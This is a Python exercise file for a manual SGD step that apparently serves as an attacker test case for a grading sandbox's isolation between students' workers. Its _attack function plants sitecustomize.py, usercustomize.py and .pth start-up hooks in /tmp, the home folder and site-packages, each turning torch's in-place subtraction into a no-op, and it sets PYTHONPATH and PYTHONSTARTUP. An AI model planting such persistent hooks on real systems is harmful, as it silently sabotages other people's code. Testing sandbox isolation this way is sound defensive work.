# attack: drop a sitecustomize.py, usercustomize.py and a .pth (each sabotaging torch's in-place subtraction) into /tmp, the working folder, the user site folder and site-packages, hoping the next student's worker loads them; and check whether a predecessor's did load here
# holds: the files land only in this worker's own /tmp (or fail): no later worker loads them, the honest students score 10/10 with their single-grading verdicts
"""Exercise 3: A manual SGD step (attacker: plants start-up hooks)."""

import os
import site
import sys
import sysconfig

BREACH = "BRE" "ACH!"
HOOK = ("import torch\n"
        "torch.Tensor.__isub__ = lambda self, other: self  # planted by 21_sitecustomize_and_pth\n")


def _attack() -> list[str]:
    notes = []
    planted = sys.modules.get("sitecustomize") or sys.modules.get("usercustomize")
    if planted is not None and "planted by 21" in open(getattr(planted, "__file__", "") or os.devnull).read():
        notes.append(f"{BREACH} a predecessor's hook ran in this worker")
    folders = {"/tmp", os.getcwd(), os.path.expanduser("~"), site.getusersitepackages(),
               sysconfig.get_paths()["purelib"]}
    for folder in sorted(folders):
        for name, text in (("sitecustomize.py", HOOK), ("usercustomize.py", HOOK),
                           ("zz_attack_{TAG}.pth", "import sitecustomize\n")):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text)
                if folder == sysconfig.get_paths()["purelib"]:
                    notes.append(f"{BREACH} wrote {name} into site-packages")
            except OSError as exc:
                notes.append(f"{folder}/{name}: {exc.strerror}")
    os.environ["PYTHONPATH"] = "/tmp"
    os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
